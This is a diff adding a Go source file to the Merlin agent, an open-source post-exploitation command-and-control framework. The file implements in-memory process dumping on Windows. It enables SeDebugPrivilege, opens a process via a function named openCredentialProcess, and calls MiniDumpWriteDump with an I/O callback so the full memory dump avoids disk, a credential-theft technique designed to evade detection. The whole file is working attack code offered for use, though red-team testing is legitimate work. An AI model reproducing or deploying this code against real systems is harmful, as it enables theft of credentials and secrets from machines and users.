@@ -0,0 +1,137 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"io"
+	"strings"
+	"sync"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/crypto/secure"
+)
+
+// MINIDUMP_CALLBACK_TYPE values for the I/O callbacks that redirect a minidump to memory
+// https://learn.microsoft.com/en-us/windows/win32/api/minidumpapiset/ne-minidumpapiset-minidump_callback_type
+const (
+	ioStartCallback    = 11
+	ioWriteAllCallback = 12
+	ioFinishCallback   = 13
+)
+
+// minidumpCallbackInformation is a MINIDUMP_CALLBACK_INFORMATION structure
+type minidumpCallbackInformation struct {
+	CallbackRoutine uintptr
+	CallbackParam   uintptr
+}
+
+// memoryDump receives the minidump written by MiniDumpWriteDump's I/O callbacks. Windows limits how many callbacks
+// a process can create so the one callback is reused and dumps are written one at a time
+var memoryDump = struct {
+	sync.Mutex
+	once     sync.Once
+	callback uintptr
+	data     []byte
+}{}
+
+// minidumpCallback is a MiniDumpCallback routine that copies each write to memoryDump.data instead of a file.
+// MINIDUMP_CALLBACK_INPUT is packed to four bytes: ProcessId, ProcessHandle, CallbackType, then the
+// MINIDUMP_IO_CALLBACK with its Handle, Offset, Buffer, and BufferBytes
+func minidumpCallback(param uintptr, input, output unsafe.Pointer) uintptr {
+	pointer := unsafe.Sizeof(uintptr(0))
+	callbackType := *(*uint32)(unsafe.Add(input, 4+pointer))
+	io := unsafe.Add(input, 8+pointer)
+	// The Status HRESULT is the first member of the MINIDUMP_CALLBACK_OUTPUT union
+	status := (*int32)(output)
+	switch callbackType {
+	case ioStartCallback:
+		// S_FALSE asks for IoWriteAllCallback instead of writes to a file handle
+		*status = 1
+	case ioWriteAllCallback:
+		offset := *(*uint64)(unsafe.Add(io, pointer))
+		buffer := *(*unsafe.Pointer)(unsafe.Add(io, pointer+8))
+		length := *(*uint32)(unsafe.Add(io, 2*pointer+8))
+		end := offset + uint64(length)
+		if end > uint64(cap(memoryDump.data)) {
+			grown := make([]byte, len(memoryDump.data), end*2)
+			copy(grown, memoryDump.data)
+			secure.Zero(memoryDump.data)
+			memoryDump.data = grown
+		}
+		if end > uint64(len(memoryDump.data)) {
+			memoryDump.data = memoryDump.data[:end]
+		}
+		copy(memoryDump.data[offset:end], unsafe.Slice((*byte)(buffer), length))
+		*status = 0
+	case ioFinishCallback:
+		*status = 0
+	}
+	return 1
+}
+
+// dumpProcess writes a full memory minidump of the process to w and returns the name of the dump and how many bytes
+// it is. MiniDumpWriteDump's I/O callbacks write the dump to memory so it never touches the disk
+func dumpProcess(pid int, w io.Writer) (name string, size int64, note string, err error) {
+	process, _, err := getProcess("", uint32(pid))
+	if err != nil {
+		return "", 0, "", err
+	}
+	name = fmt.Sprintf("%s.%d.dmp.gz", strings.TrimSuffix(process, ".exe"), pid)
+
+	if _, err = targetArch(uint32(pid), "dump"); err != nil {
+		return "", 0, "", err
+	}
+	// SeDebugPrivilege is needed for processes owned by other users, the dump is still attempted without it
+	_ = sePrivEnable("SeDebugPrivilege")
+	handle, note, err := openCredentialProcess(uint32(pid), windows.PROCESS_QUERY_INFORMATION|windows.PROCESS_VM_READ)
+	if err != nil {
+		return "", 0, note, fmt.Errorf("there was an error opening the process: %s", err)
+	}
+	defer windows.CloseHandle(handle)
+
+	memoryDump.Lock()
+	defer memoryDump.Unlock()
+	memoryDump.once.Do(func() {
+		memoryDump.callback = windows.NewCallback(minidumpCallback)
+	})
+	memoryDump.data = nil
+	defer func() {
+		secure.Zero(memoryDump.data)
+		memoryDump.data = nil
+	}()
+
+	info := minidumpCallbackInformation{CallbackRoutine: memoryDump.callback}
+	miniDumpWriteDump := windows.NewLazySystemDLL("DbgHelp.dll").NewProc("MiniDumpWriteDump")
+	// MiniDumpWithDataSegs | MiniDumpWithFullMemory, the same as the minidump module
+	if ret, _, e := miniDumpWriteDump.Call(uintptr(handle), uintptr(pid), 0, 3, 0, 0, uintptr(unsafe.Pointer(&info))); ret == 0 {
+		return "", 0, note, fmt.Errorf("MiniDumpWriteDump failed: %s", e)
+	}
+	if _, err = w.Write(memoryDump.data); err != nil {
+		return "", 0, note, err
+	}
+	return name, int64(len(memoryDump.data)), note, nil
+}